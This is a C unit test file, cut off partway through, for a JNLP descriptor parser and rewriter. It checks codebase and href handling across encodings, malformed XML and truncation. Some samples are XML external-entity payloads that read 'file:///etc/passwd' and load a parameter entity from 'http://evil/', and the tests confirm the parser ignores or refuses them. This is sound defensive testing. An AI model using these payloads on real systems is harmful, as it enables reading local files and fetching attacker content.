/* Licensed under the Apache License, Version 2.0; see LICENSE. */

/*
 * Unit tests of svb_jnlp: a corpus of JNLPs, each in several encodings, what is
 * read of them and what becomes of them byte by byte.
 */

#include <limits.h>
#include <stdlib.h>
#include <string.h>

#include <apr_strings.h>

#include "launch/jnlp.h"
#include "unit.h"

/* Bytes with their number; there may be NULs among them. */
typedef struct bytes {
    char *at;
    apr_size_t len;
} bytes;

static bytes bytes_of(const char *s)
{
    bytes b = {apr_pstrdup(pool, s), strlen(s)};

    return b;
}

static void add(bytes *b, const char *s, apr_size_t len)
{
    memcpy(b->at + b->len, s, len);
    b->len += len;
}

/*
 * Read a copy that ends where the document does, so that a sanitizer sees who
 * reads on. The copy is what the result points into; the caller frees it.
 */
static const char *read_copy(bytes doc, char **copy, const svb_jnlp **jnlp)
{
    *copy = malloc(doc.len ? doc.len : 1);
    memcpy(*copy, doc.at, doc.len);
    return svb_jnlp_read(pool, *copy, doc.len, jnlp);
}

static void check_value(const char *what, const char *got, const char *wanted)
{
    ck_assert_msg(!got == !wanted && (!got || !strcmp(got, wanted)),
                  "%s is %s, not %s", what, got ? got : "(none)",
                  wanted ? wanted : "(none)");
}

/*
 * The encodings that a sample is tried in. Samples are in UTF-8; "%E" in one
 * becomes what a declaration calls the encoding.
 */
static const struct {
    const char *name, *mark; /* byte order mark */
    apr_size_t mark_len;
    int unit, low;
} encodings[] = {
    {"utf-8", "", 0, 1, 0},
    {"UTF-8", "\xef\xbb\xbf", 3, 1, 0},
    {"UTF-16", "", 0, 2, 0},
    {"utf-16", "", 0, 2, 1},
    {"UTF-16LE", "\xff\xfe", 2, 2, 0},
    {"UTF-16", "\xfe\xff", 2, 2, 1},
};

/* The character at *s, which is moved on. The text is known to be proper. */
static unsigned decode_utf8(const char **s)
{
    unsigned c = (unsigned char)*(*s)++;
    int more = c < 0xc0 ? 0 : c < 0xe0 ? 1 : c < 0xf0 ? 2 : 3;

    if (more) {
        c &= 0x3fU >> more;
    }
    while (more--) {
        c = c << 6 | ((unsigned char)*(*s)++ & 0x3f);
    }
    return c;
}

static void put_unit(bytes *b, unsigned unit, int low)
{
    b->at[b->len + (apr_size_t)low] = (char)(unit & 0xff);
    b->at[b->len + (apr_size_t)!low] = (char)(unit >> 8);
    b->len += 2;
}

static bytes encode(const char *s, int encoding)
{
    bytes b = {apr_palloc(pool, 2 * strlen(s) + 3), 0};

    add(&b, encodings[encoding].mark, encodings[encoding].mark_len);
    if (encodings[encoding].unit == 1) {
        add(&b, s, strlen(s));
        return b;
    }
    while (*s) {
        unsigned c = decode_utf8(&s);

        if (c < 0x10000) {
            put_unit(&b, c, encodings[encoding].low);
        }
        else {
            put_unit(&b, 0xd7c0 + (c >> 10), encodings[encoding].low);
            put_unit(&b, 0xdc00 + (c & 0x3ff), encodings[encoding].low);
        }
    }
    return b;
}

/* The values that are written, and how they have to stand in the text. */
static const struct {
    const char *codebase, *escaped_codebase;
    const char *href, *escaped_href;
} written[] = {
    {"https://lb.example.com/", "https://lb.example.com/",
     "https://lb.example.com/servoy-client/crm.jnlp",
     "https://lb.example.com/servoy-client/crm.jnlp"},
    {"http://10.0.0.1:8080/a?b=c&d=%26", "http://10.0.0.1:8080/a?b=c&amp;d=%26",
     "crm.jnlp?a='1'&b=\"2\"&c=<3>&amp;x&",
     "crm.jnlp?a=&apos;1&apos;&amp;b=&quot;2&quot;&amp;c=&lt;3>&amp;amp;x&amp;"},
    {"", "", "", ""},
    {"'\"<&", "&apos;&quot;&lt;&amp;", "=/>", "=/>"},
    {"http://[::1]:80/!#$%()*+,-./:;=?@[]^_`{|}~",
     "http://[::1]:80/!#$%()*+,-./:;=?@[]^_`{|}~", "-->", "-->"},
};

/*
 * A sample marks its places: ~ stands on either side of the raw codebase, ^ of
 * the raw href, and ` where an attribute that is not there has to be put. So
 * what is to be read and the whole of what is to be written follow from it by
 * plain copying.
 */
static char *without_marks(const char *sample)
{
    char *result = apr_palloc(pool, strlen(sample) + 1), *out = result;

    for (; *sample; ++sample) {
        if (!strchr("~^`", *sample)) {
            *out++ = *sample;
        }
    }
    *out = '\0';
    return result;
}

static char *raw_value(const char *sample, char mark)
{
    const char *s = strchr(sample, mark);

    return s ? apr_pstrmemdup(pool, s + 1,
                              (apr_size_t)(strchr(s + 1, mark) - s - 1))
             : NULL;
}

/* The sample with the values of written[w] in their places. */
static char *with_values(const char *sample, int w)
{
    apr_size_t room = strlen(sample) + strlen(written[w].escaped_codebase)
                      + strlen(written[w].escaped_href) + 64;
    bytes b = {apr_palloc(pool, room), 0};
    const char *insert = "", *s;

    if (!strchr(sample, '~')) {
        insert = apr_pstrcat(pool, " codebase=\"", written[w].escaped_codebase,
                             "\"", NULL);
    }
    if (!strchr(sample, '^')) {
        insert = apr_pstrcat(pool, insert, " href=\"", written[w].escaped_href,
                             "\"", NULL);
    }
    for (s = sample; *s; ++s) {
        const char *put = *s == '~'   ? written[w].escaped_codebase
                          : *s == '^' ? written[w].escaped_href
                          : *s == '`' ? insert
                                      : NULL;

        if (!put) {
            add(&b, s, 1);
            continue;
        }
        add(&b, put, strlen(put));
        if (*s != '`') {
            s = strchr(s + 1, *s);
        }
    }
    b.at[b.len] = '\0';
    return b.at;
}

static void check_same(bytes got, bytes wanted)
{
    apr_size_t i = 0;

    while (i < got.len && i < wanted.len && got.at[i] == wanted.at[i]) {
        ++i;
    }
    ck_assert_msg(i == got.len && i == wanted.len,
                  "differs from byte %d of %d (wanted: %d) on: %.60s", (int)i,
                  (int)got.len, (int)wanted.len, got.at + i);
}

static bytes write_values(const svb_jnlp *jnlp, const char *codebase,
                          const char *href)
{
    bytes b;

    b.at = (char *)svb_jnlp_write(pool, jnlp, codebase, href, &b.len);
    return b;
}

/*
 * What was written, read again, gives what was written; and it can be written
 * over in turn.
 */
static void check_written(bytes doc, int w)
{
    const svb_jnlp *jnlp = NULL;
    char *copy;
    const char *error = read_copy(doc, &copy, &jnlp);

    ck_assert_msg(!error, "%s", error);
    check_value("codebase", svb_jnlp_codebase(jnlp), written[w].codebase);
    check_value("href", svb_jnlp_href(jnlp), written[w].href);
    check_same(write_values(jnlp, written[w].codebase, written[w].href), doc);
    free(copy);
}

/*
 * Everything about one document: doc as it is, and wanted[w] as it has to be
 * with written[w]. codebase and href are the decoded ones, or NULL. plain: both
 * are in the tag and need no escaping.
 */
static void check_document(bytes doc, const bytes *wanted, const char *codebase,
                           const char *href, int plain)
{
    const svb_jnlp *jnlp = NULL, *again = NULL;
    char *copy, *second;
    const char *error = read_copy(doc, &copy, &jnlp);
    int w;

    ck_assert_msg(!error, "%s", error);
    check_value("codebase", svb_jnlp_codebase(jnlp), codebase);
    check_value("href", svb_jnlp_href(jnlp), href);
    for (w = 0; w < COUNT(written); ++w) {
        bytes got = write_values(jnlp, written[w].codebase, written[w].href),
              back;

        check_same(got, wanted[w]);
        check_written(got, w);
        if (plain) {
            ck_assert_ptr_null(read_copy(got, &second, &again));
            back = write_values(again, codebase, href);
            free(second);
            check_same(back, doc);
        }
    }
    /* reading and writing left the text alone */
    ck_assert_int_eq(memcmp(copy, doc.at, doc.len), 0);
    free(copy);
}

/* In place of a value: what stands raw in the sample. */
#define RAW "(raw)"

typedef struct sample {
    const char *text;
    const char *codebase, *href; /* decoded; RAW; NULL: none */
} sample;

static int is_raw(const char *value)
{
    return value && !strcmp(value, RAW);
}

static void check_sample(const sample *s, const char *text, int encoding)
{
    const char *codebase = s->codebase, *href = s->href;
    bytes wanted[COUNT(written)];
    int plain = is_raw(codebase) && is_raw(href), w;

    if (is_raw(codebase)) {
        codebase = raw_value(text, '~');
    }
    if (is_raw(href)) {
        href = raw_value(text, '^');
    }
    for (w = 0; w < COUNT(written); ++w) {
        wanted[w] = encode(with_values(text, w), encoding);
    }
    check_document(encode(without_marks(text), encoding), wanted, codebase,
                   href, plain);
}

/* What servers send, as far as it matters. */
static const sample vendors[] = {
    /* a Servoy application server's */
    {"<?xml version=\"1.0\" encoding=\"%E\"?>\n"
     "<jnlp` spec=\"1.0+\" codebase=\"~http://node1:8080~\""
     " href=\"^servoy-client/crm.jnlp^\">\n"
     "  <information>\n    <title>CRM \xe2\x80\x93 Lager &amp; M\xc3\xa4rz</title>"
     "\n    <vendor>Servoy</vendor>\n    <icon href=\"lib/images/crm.gif\"/>\n"
     "    <homepage href=\"http://node1:8080\"/>\n    <offline-allowed/>\n"
     "    <shortcut online=\"true\"><desktop/><menu submenu=\"CRM\"/></shortcut>"
     "\n  </information>\n  <security><all-permissions/></security>\n"
     "  <resources>\n    <j2se version=\"1.8+\" initial-heap-size=\"64m\""
     " max-heap-size=\"512m\" href=\"http://java.sun.com/products/autodl/j2se\""
     " java-vm-args=\"-XX:+UseG1GC\"/>\n"
     "    <jar href=\"/lib/j2db.jar\" main=\"true\" version=\"8.4.1\"/>\n"
     "    <extension name=\"beans\" href=\"/servoy-client/beans.jnlp\"/>\n"
     "    <property name=\"jnlp.packEnabled\" value=\"true\"/>\n"
     "    <property name=\"codebase\" value=\"http://node1:8080\"/>\n"
     "  </resources>\n"
     "  <application-desc main-class=\"com.servoy.j2db.smart.J2DBClient\">\n"
     "    <argument>solution:crm</argument>\n"
     "    <argument>http://node1:8080/?a=1&amp;b=2</argument>\n"
     "  </application-desc>\n</jnlp>\n",
     RAW, RAW},
    /* a download servlet that filled in its $$ placeholders; CRLF throughout */
    {"<?xml version=\"1.0\" encoding=\"%E\"?>\r\n<!--\r\n"
     "  <jnlp codebase=\"$$codebase\" href=\"$$name\">: see the manual\r\n-->\r\n"
     "<jnlp`\r\n\tspec=\"6.0+\"\r\n\tcodebase=\"~https://node2.internal/app/~\""
     "\r\n\thref=\"^launch.jnlp^\"\r\n\tversion=\"1.1\"\r\n>\r\n"
     "<information><title>T</title><description kind=\"one-line\">d"
     "</description></information>\r\n"
     "<resources os=\"Windows\"><jar href=\"a__V1.jar\"/>"
     "<nativelib href=\"n.jar\"/></resources>\r\n</jnlp>\r\n",
     RAW, RAW},
    /* one that left them: they are values like others */
    {"<jnlp` spec=\"1.0+\" codebase=\"~$$codebase~\" href=\"^$$name^\">"
     "<resources><jar href=\"$$hostname/x.jar\"/></resources></jnlp>",
     RAW, RAW},
    /* an IDE's, made for the file system */
    {"<?xml version=\"1.0\" encoding=\"%E\" standalone=\"no\"?>\n"
     "<jnlp` codebase=\"~file:/C:/work/app/dist/~\" href=\"^launch.jnlp^\""
     " spec=\"1.0+\">\n    <application-desc main-class=\"a.Main\">\n"
     "    </application-desc>\n</jnlp>",
     RAW, RAW},
    /* an open implementation's example: single quotes, DTD named but not read */
    {"<?xml version='1.0' encoding='%E'?>\n"
     "<!DOCTYPE jnlp PUBLIC \"-//Sun Microsystems, Inc//DTD JNLP Descriptor 6.0"
     "//EN\" \"http://java.sun.com/dtd/JNLP-6.0.dtd\">\n"
     "<jnlp` spec='6.0+' href='^draw.jnlp^' codebase='~http://h/draw/~'>\n"
     "<update check='always' policy='prompt-update'/></jnlp>\n\n",
     RAW, RAW},
    /* an applet's, without a codebase */
    {"<jnlp` href=\"^applet.jnlp^\"><applet-desc codebase=\"c\" name=\"n\""
     " main-class=\"A\" width=\"1\" height=\"1\"/></jnlp>",
     NULL, RAW},
    /* one that was not meant to be updated, without a href */
    {"<jnlp` codebase=\"~http://node1:8080/~\">"
     "<component-desc/><icon href=\"i\"/></jnlp>",
     RAW, NULL},
};

/* What else XML allows. */
static const sample odd[] = {
    {"<jnlp`/>", NULL, NULL},
    {"<jnlp` />", NULL, NULL},
    {"<jnlp`></jnlp>", NULL, NULL},
    {"<jnlp`\n>\n</jnlp\n>", NULL, NULL},
    {"<jnlp` spec='1'/>", NULL, NULL},
    {"<jnlp` codebase='~~' href=\"^^\"/>", RAW, RAW},
    {"<jnlp` codebase=\"~~\"/>", RAW, NULL},
    {"<jnlp` href='^^'/>", NULL, RAW},
    {"<jnlp`\thref='^a^'\ncodebase='~b~'\r\n/>", RAW, RAW},
    /* white space wherever it may be */
    {"<jnlp`\n\n  codebase \t=\r\n '~http://a/~'\n  href\n=\n\"^b^\"\n />", RAW,
     RAW},
    {"<jnlp` spec = '1' codes= \"2\" href\t=\t'^b^' ></jnlp >", NULL, RAW},
    /* what looks like the end of the tag, or like another attribute */
    {"<jnlp` a='>' codebase='~>~' b=\"/>\" href=\"^/>^\" c=' --> '/>", RAW,
     RAW},
    {"<jnlp` a=' codebase=\"x\" href=\"y\"' href=\"^ codebase='x' ^\" b='\"'/>",
     NULL, RAW},
    {"<jnlp` a=\"'\" codebase='~a\"b~' b='\"' href=\"^a'b^\"/>", "a\"b", "a'b"},
    {"<jnlp` a='=' b=\"codebase=\" codebase=\"~=~\" href='^==^'/>", RAW, RAW},
    /* names that are not quite it */
    {"<jnlp` codebas='1' codebase2='2' xcodebase='3' CODEBASE='4' Href='5'"
     " hrefs='6' _href='7' href-='8' hre='9' href.='0'/>",
     NULL, NULL},
    {"<jnlp` codebase2='2' codebase='~a~' hrefs='6' href='^b^' hre=''/>", RAW,
     RAW},
    {"<jnlp` href\xc3\xa9='1' \xc3\xa9href='2' href='^b^' codebase\xc2\xb7='3'"
     "/>",
     NULL, RAW},
    /* U+4E68 has the low byte of 'h', U+6800 the high one */
    {"<jnlp` \xe4\xb9\xa8ref='1' \xe6\xa0\x80ref='2' href='^b^'/>", NULL, RAW},
    /* namespaces */
    {"<jnlp` xmlns='urn:j' xmlns:x='urn:x' x:href='1' x:codebase='2'/>", NULL,
     NULL},
    {"<j:jnlp` xmlns:j='urn:j' j:href='1' codebase='~a~' j:codebase='2'"
     " href='^b^'><j:x href='c'/></j:jnlp>",
     RAW, RAW},
    {"<j:jnlp` xmlns:j='urn:j' j:codebase='2' href='^b^'/>", NULL, RAW},
    {"<x-1.y:jnlp` xmlns:x-1.y='urn:j'/>", NULL, NULL},
    {"<\xc3\xa9:jnlp` xmlns:\xc3\xa9='urn:j'/>", NULL, NULL},
    /* references in values */
    {"<jnlp` codebase='~http:&#x2F;&#47;h/?a&amp;b&lt;&gt;&quot;&apos;~'"
     " href=\"^&#99;&#x72;m.jnlp^\"/>",
     "http://h/?a&b<>\"'", "crm.jnlp"},
    {"<jnlp` codebase='~a\nb\tc&#10;&#9;d~' href='^ x ^'/>", "a b c\n\td",
     " x "},
    {"<jnlp` codebase='~\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80~' href='^&#xe9;"
     "&#x1F600;^'/>",
     "\xc3\xa9\xe2\x82\xac\xf0\x9f\x98\x80", "\xc3\xa9\xf0\x9f\x98\x80"},
    /* U+3C00, U+2227 and U+3E22 hold the bytes of markup */
    {"<jnlp` a='\xe3\xb0\x80\xe2\x88\xa7\xe3\xb8\xa2'"
     " codebase='~\xe3\xb0\x80\xe2\x88\xa7\xe3\xb8\xa2~'/>",
     RAW, NULL},
    /* decoys before the root */
    {"<?xml version='1.0'?><!-- <jnlp codebase='c' href='d'> -->"
     "<?p <jnlp codebase='c' href='d'>?>\n"
     "<?jnlp codebase='e'?><jnlp` href='^h^'/>",
     NULL, RAW},
    {"\n\n <!--<jnlp>--> \r\n<jnlp` href='^h^' codebase='~c~'/>\n", RAW, RAW},
    {"<!DOCTYPE jnlp [<!-- <jnlp href='x'> --><!ENTITY e '<jnlp href=\"y\"/>'>"
     "<?p <jnlp href='z'/>?>]><jnlp` codebase='~c~'/>",
     RAW, NULL},
    {"<!DOCTYPE jnlp [<!ENTITY e \"<jnlp codebase='a' href='b'/>\">]>"
     "<jnlp`>&e;</jnlp>",
     NULL, NULL},
    /* decoys after it */
    {"<jnlp`><jnlp codebase='a' href='b'/><![CDATA[<jnlp codebase='c' href='d'"
     ">]]><!-- <jnlp href='x'/> --><?p href='q'?></jnlp>"
     "<!-- <jnlp href='x'/> --><?p href='q'?>",
     NULL, NULL},
    {"<jnlp` codebase='~a~' href='^b^'><jnlp href='c'><jnlp codebase='d'/>"
     "</jnlp></jnlp>",
     RAW, RAW},
    /* what a DOCTYPE does */
    {"<!DOCTYPE jnlp [<!ENTITY h \"http://node1:8080\"><!ENTITY p '&h;/&#97;'>]>"
     "<jnlp` codebase=\"~&p;/~\" href='^&h;/x.jnlp^'>&p;</jnlp>",
     "http://node1:8080/a/", "http://node1:8080/x.jnlp"},
    {"<!DOCTYPE jnlp [<!ATTLIST jnlp codebase CDATA 'http://d:1/' href CDATA"
     " #IMPLIED spec CDATA #FIXED '1'>]><jnlp` href=\"^b^\"/>",
     "http://d:1/", RAW},
    {"<!DOCTYPE jnlp [<!ATTLIST jnlp codebase CDATA 'http://d:1/' href CDATA"
     " 'd.jnlp'>]><jnlp`/>",
     "http://d:1/", "d.jnlp"},
    {"<!DOCTYPE jnlp [<!ATTLIST jnlp codebase CDATA 'http://d:1/' href CDATA"
     " 'd.jnlp'>]><jnlp` href='^^' codebase='~c~'/>",
     RAW, RAW},
    {"<!DOCTYPE jnlp [<!ATTLIST jnlp codebase NMTOKENS #IMPLIED>]>"
     "<jnlp` codebase='~  a \n b ~'/>",
     "a b", NULL},
    {"<!DOCTYPE jnlp [<!ENTITY amp '&#38;#38;'><!ENTITY lt '&#38;#60;'>]>"
     "<jnlp` codebase='~&amp;~' href='^&lt;^'/>",
     "&", "<"},
    {"<!DOCTYPE jnlp SYSTEM 'file:///etc/passwd' [<!ENTITY x SYSTEM"
     " 'file:///etc/passwd'><!ENTITY % y SYSTEM 'http://evil/'> %y;]>"
     "<jnlp` href='^b^'>&x;</jnlp>",
     NULL, RAW},
    /* whatever else is in the document is nobody's business here */
    {"<?xml version=\"1.0\"?><jnlp`><a>&#xe9;&amp;</a><jnlp/></jnlp> <!---->",
     NULL, NULL},
};

static void check_in_all_encodings(const sample *s)
{
    int i;

    for (i = 0; i < COUNT(encodings); ++i) {
        const char *e = strstr(s->text, "%E");
        const char *text = s->text;

        if (e) {
            text = apr_pstrcat(
                pool, apr_pstrmemdup(pool, text, (apr_size_t)(e - text)),
                encodings[i].name, e + 2, NULL);
        }
        check_sample(s, text, i);
    }
}

START_TEST(vendor_samples)
{
    check_in_all_encodings(&vendors[_i]);
}
END_TEST

START_TEST(odd_samples)
{
    check_in_all_encodings(&odd[_i]);
}
END_TEST

/* In encodings of one byte a character, which are not to be converted. */
static const sample bytewise[] = {
    {"<?xml version='1.0' encoding='ISO-8859-1'?><jnlp` codebase='~http://h/~'"
     " a='\xe4\xf6' href='^b^'><title>M\xe4rz \xa0\xff</title></jnlp>",
     RAW, RAW},
    {"<?xml version='1.0' encoding='iso-8859-1'?><jnlp` href='^\xe9\x80^'/>",
     NULL, "\xc3\xa9\xc2\x80"},
    {"<?xml version='1.0' encoding='windows-1252'?><jnlp` codebase='~http://h/~'"
     " a='\x80\x85' href='^b^'><title>\x93M\xe4rz\x94 \x81</title></jnlp>",
     RAW, RAW},
    {"<?xml version='1.0' encoding='WINDOWS-1251'?><jnlp` codebase='~http://h/~'"
     " \xea\xeb='\xea' href='^b^'><\xd2\xe5/></jnlp>",
     RAW, RAW},
    {"<?xml version='1.0' encoding='Iso-8859-15'?><jnlp` href='^b^'>\xa4</jnlp>",
     NULL, RAW},
    {"<?xml version='1.0' encoding='KOI8-R'?><j\xc1:jnlp` xmlns:j\xc1='u' "
     "codebase\xc1='1' href='^b^'/>",
     NULL, RAW},
    {"<?xml version='1.0' encoding='koi8-u'?><jnlp` \xc1='' codebase='~~'/>",
     RAW, NULL},
    {"<?xml version='1.0' encoding='US-ASCII'?><jnlp` href='^b^'/>", NULL, RAW},
    /* an upper byte is some letter, another for each */
    {"<?xml version='1.0' encoding='windows-1250'?><jnlp` href='^\x80\xff^'/>",
     NULL, "\xe4\xba\x80\xe4\xbb\xbf"},
};

START_TEST(bytewise_samples)
{
    check_sample(&bytewise[_i], bytewise[_i].text, 0);
}
END_TEST

/* A document with its number of bytes, NULs included, but not the last one. */
#define DOC(text) (text), sizeof(text) - 1

static const struct {
    const char *text;
    apr_size_t len;
    const char *error; /* part of it */
} refused[] = {
    {DOC(""), "is empty"},
    {DOC(" "), "no element"},
    {DOC("\n\r\n\t"), "no element"},
    {DOC("\xef\xbb\xbf"), "no element"},
    {DOC("\xff\xfe"), "no element"},
    {DOC("\xff"), "cannot be parsed"},
    {DOC("<"), "cannot be parsed"},
    {DOC("\0"), "cannot be parsed"},
    {DOC("\0\0\0\0\0\0\0\0"), "cannot be parsed"},
    {DOC("<?xml version='1.0'?>"), "no element"},
    {DOC("<!-- <jnlp/> -->"), "no element"},
    {DOC("HTTP Status 404"), "cannot be parsed"},
    {DOC("PK\003\004\024\0\010\0"), "cannot be parsed"},
    {DOC("{\"jnlp\":1}"), "cannot be parsed"},
    {DOC("&lt;jnlp/>"), "cannot be parsed"},
    {DOC("jnlp/>"), "cannot be parsed"},
    /* other roots */
    {DOC("<html><body>Not found<br></body></html>"),
     "has the root element <html>, not <jnlp>"},
    {DOC("<!DOCTYPE html>\n<html lang=en>"), "cannot be parsed"},
    {DOC("<!DOCTYPE html>\n<html><jnlp/></html>"), "<html>"},
    {DOC("<!doctype html><html/>"), "cannot be parsed"},
    {DOC("<JNLP/>"), "<JNLP>"},
    {DOC("<jnlps/>"), "<jnlps>"},
    {DOC("<jnl/>"), "<jnl>"},
    {DOC("<jnlp:x/>"), "<jnlp:x>"},
    {DOC("<x:y:jnlp/>"), "<x:y:jnlp>"},
    {DOC("<x><jnlp/></x>"), "<x>"},
    {DOC("<!DOCTYPE jnlp [<!ENTITY e '<jnlp/>'>]><x>&e;</x>"), "<x>"},
    {DOC("<!DOCTYPE jnlp [<!ENTITY e '<jnlp/>'>]>&e;"), "cannot be parsed"},
    {DOC("<\xc3\xa9\xe2\x84\xa6>"), "<\?\?\?\?\?>"},
    {DOC("<aaaaaaaaaabbbbbbbbbbccccccccccddddddddddeeeeeeeeee>"),
     "<aaaaaaaaaabbbbbbbbbbccccccccccdddddddddd...>"},
    /* all but well-formed */
    {DOC("<jnlp>"), "no element"},
    {DOC("<jnlp></jnlp"), "unclosed token"},
    {DOC("<jnlp></jnlps>"), "mismatched tag"},
    {DOC("<jnlp/>x"), "(line 1)"},
    {DOC("<jnlp/>\n\n<jnlp/>"), "(line 3)"},
    {DOC("<jnlp/><"), "cannot be parsed"},
    {DOC("<jnlp/>\0"), "cannot be parsed"},
    {DOC("\0<jnlp/>"), "cannot be parsed"},
    {DOC("<jnlp>\0</jnlp>"), "cannot be parsed"},
    {DOC("<jnlp codebase='\0'/>"), "cannot be parsed"},
    {DOC("<jnlp codebase='&#0;'/>"), "cannot be parsed"},
    {DOC(" <?xml version='1.0'?><jnlp/>"), "cannot be parsed"},
    {DOC("<jnlp href='a' href='b'/>"), "duplicate attribute"},
    {DOC("<jnlp codebase='a'href='b'/>"), "cannot be parsed"},
    {DOC("<jnlp codebase=a/>"), "cannot be parsed"},
    {DOC("<jnlp codebase/>"), "cannot be parsed"},
    {DOC("<jnlp codebase='a/>"), "cannot be parsed"},
    {DOC("<jnlp codebase='a\"/>"), "cannot be parsed"},
    {DOC("<jnlp codebase='a<b'/>"), "cannot be parsed"},
    {DOC("<jnlp codebase='?a=1&b=2'/>"), "cannot be parsed"},
    {DOC("<jnlp codebase='&b;'/>"), "undefined entity"},
    {DOC("<jnlp>&b;</jnlp>"), "undefined entity"},
    {DOC("<jnlp>a & b</jnlp>"), "cannot be parsed"},
    {DOC("<jnlp>\xe4</jnlp>"), "cannot be parsed"},
    {DOC("<jnlp>\xc0\xaf</jnlp>"), "cannot be parsed"},
    {DOC("<jnlp>\xed\xa0\x80</jnlp>"), "cannot be parsed"},
    {DOC("<jnlp>\x01</jnlp>"), "cannot be parsed"},
    {DOC("<!DOCTYPE jnlp [<!ENTITY e '&e;'>]><jnlp href='&e;'/>"), "recursive"},
    {DOC("<!DOCTYPE jnlp [<!ENTITY e '&f;'><!ENTITY f '&e;'>]>"
         "<jnlp href='&f;'/>"),
     "recursive"},
    {DOC("<!DOCTYPE jnlp [<!ENTITY e '<'>]><jnlp href='&e;'/>"),
     "cannot be parsed"},
    {DOC("<!DOCTYPE jnlp [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
         "<jnlp href='&e;'/>"),
     "external entity in attribute"},
    {DOC("<!DOCTYPE jnlp [<jnlp/>"), "cannot be parsed"},
    /* encodings */
    {DOC("<?xml version='1.0' encoding='shift_jis'?><jnlp/>"),
     "is in an encoding not known here (shift_jis)"},
    {DOC("<?xml version='1.0' encoding='UTF-7'?><jnlp/>"), "(UTF-7)"},
    {DOC("<?xml version='1.0' encoding='UTF-32'?><jnlp/>"), "(UTF-32)"},
    {DOC("<?xml version='1.0' encoding='IBM037'?><jnlp/>"), "(IBM037)"},
    {DOC("<?xml version='1.0' encoding='windows-932'?><jnlp/>"),
     "(windows-932)"},
    {DOC("<?xml version='1.0' encoding='aaaaaaaaaabbbbbbbbbbccccccccccdddddddddd"
         "eeeeeeeeee'?><jnlp/>"),
     "(aaaaaaaaaabbbbbbbbbbccccccccccdddddddddd...)"},
    {DOC("<?xml version='1.0' encoding='utf-16'?><jnlp/>"), "encoding"},
    {DOC("<?xml version='1.0' encoding=''?><jnlp/>"), "cannot be parsed"},
    {DOC("<?xml version='1.0' encoding='koi8-\n'?><jnlp/>"),
     "cannot be parsed"},
    {DOC("<\0j\0n\0l\0p\0/\0>"), "cannot be parsed"},
    {DOC("\xff\xfe\0<\0j\0n\0l\0p\0/\0>"), "cannot be parsed"},
    {DOC("\xff\xfe\0\0<\0\0\0j\0\0\0"), "cannot be parsed"},
    {DOC("<\0j\0n\0l\0p\0/\0>\0<\xd8"), "cannot be parsed"},
    /* half of a character, which may hide what follows it */
    {DOC("<\0j\0n\0l\0p\0 \0a\0=\0'\0\0\xd8'\0'\0/\0>\0"), "UTF-16"},
    {DOC("\0<\0j\0n\0l\0p\0 \0a\0=\0'\xdb\xff\0'\0'\0/\0>"), "UTF-16"},
    {DOC("<\0j\0n\0l\0p\0 \0a\0=\0'\0\0\xdc'\0/\0>\0"), "cannot be parsed"},
    {DOC("<\0j\0n\0l\0p\0>\0\0\xd8<\0<\0/\0j\0n\0l\0p\0>\0"), "UTF-16"},
    {DOC("<\0!\0-\0-\0\0\xd8-\0-\0-\0>\0<\0j\0n\0l\0p\0/\0>\0"), "UTF-16"},
    {DOC("<\0j\0n\0l\0p\0/\0>\0<\0!\0-\0-\0\0\xd8"), "cannot be parsed"},
};

static void check_error(const char *error, const char *wanted)
{
    const char *c;

    ck_assert_ptr_nonnull(error);
    ck_assert_msg(strstr(error, wanted) != NULL, "error is: %s", error);
    for (c = error; *c; ++c) {
        ck_assert(*c >= 0x20 && *c < 0x7f);
    }
}

START_TEST(refuses)
{
    const svb_jnlp *jnlp = NULL;
    bytes doc = {(char *)refused[_i].text, refused[_i].len};
    char *copy;

    check_error(read_copy(doc, &copy, &jnlp), refused[_i].error);
    ck_assert_ptr_null(jnlp);
    free(copy);
}
END_TEST

/* UTF-16 that claims to be something else, or goes on as something else. */
START_TEST(refuses_mixed_encodings)
{
    static const char *const names[] = {"utf-8",        "us-ascii",
                                        "iso-8859-1",   "iso-8859-2",
                                        "windows-1252", "koi8-r"};
    int name, i;

    for (name = 0; name < COUNT(names); ++name) {
        const char *decl = apr_psprintf(
            pool, "<?xml version='1.0' encoding='%s'?>", names[name]);

        for (i = 2; i < COUNT(encodings); ++i) {
            bytes whole = encode(apr_pstrcat(pool, decl, "<jnlp/>", NULL), i);
            bytes half = {apr_palloc(pool, whole.len), 0};
            bytes start = encode(decl, i);
            const svb_jnlp *jnlp = NULL;
            char *copy;

            check_error(read_copy(whole, &copy, &jnlp), "");
            free(copy);
            add(&half, start.at, start.len);
            add(&half, "<jnlp/>", 7);
            check_error(read_copy(half, &copy, &jnlp), "");
            free(copy);
            ck_assert_ptr_null(jnlp);
        }
    }
}
END_TEST

/* Cut off anywhere it is refused, or nothing but its end was white space. */
START_TEST(truncated)
{
    const char *text = vendors[_i].text;
    int i;

    for (i = 1; i < COUNT(encodings); i += 2) {
        bytes doc = encode(without_marks(text), i);
        const char *codebase = raw_value(text, '~');
        const char *href = raw_value(text, '^');

        for (; doc.len; --doc.len) {
            const svb_jnlp *jnlp = NULL;
            char *copy;
            const char *error = read_copy(doc, &copy, &jnlp);
            char last = doc.at[doc.len - 1];

            if (error) {
                check_error(error, "");
                ck_assert_ptr_null(jnlp);
            }
            else {
                check_value("codebase", svb_jnlp_codebase(jnlp), codebase);
                check_value("href", svb_jnlp_href(jnlp), href);
                ck_assert(last == '>' || last == '\n' || !last);
            }
            free(copy);
        }
    }
}
END_TEST

/* Any byte changed to any of these: no crash, and what is taken can be written
 * and read again. */
START_TEST(one_byte_changed)
{
    static const char others[] = "\0<>\"'&=/! x\xff\xc3";
    bytes doc = encode("<?xml version='1.0'?><!-- --><jnlp a='b' codebase='c'"
                       " href=\"&amp;d\"><e f='g'/><![CDATA[]]></jnlp>",
                       _i);
    apr_size_t i, k;

    for (i = 0; i < doc.len; ++i) {
        char old = doc.at[i];

        for (k = 0; k < sizeof(others) - 1; ++k) {
            const svb_jnlp *jnlp = NULL;
            char *copy;

            doc.at[i] = others[k];
            if (!read_copy(doc, &copy, &jnlp)) {
                check_written(
                    write_values(jnlp, written[1].codebase, written[1].href),
                    1);
            }
            free(copy);
        }
        doc.at[i] = old;
    }
}
END_TEST

static char *repeated(const char *s, int times)
{
    apr_size_t len = strlen(s);
    char *result = apr_palloc(pool, len * (apr_size_t)times + 1);
    int i;

    for (i = 0; i < times; ++i) {
        memcpy(result + len * (apr_size_t)i, s, len);
    }
    result[len * (apr_size_t)times] = '\0';
    return result;
}

/* Megabytes: before the root, within its tag and its values, behind it. */
START_TEST(long_documents)
{
    sample s = {NULL, RAW, RAW};

    s.text = apr_pstrcat(
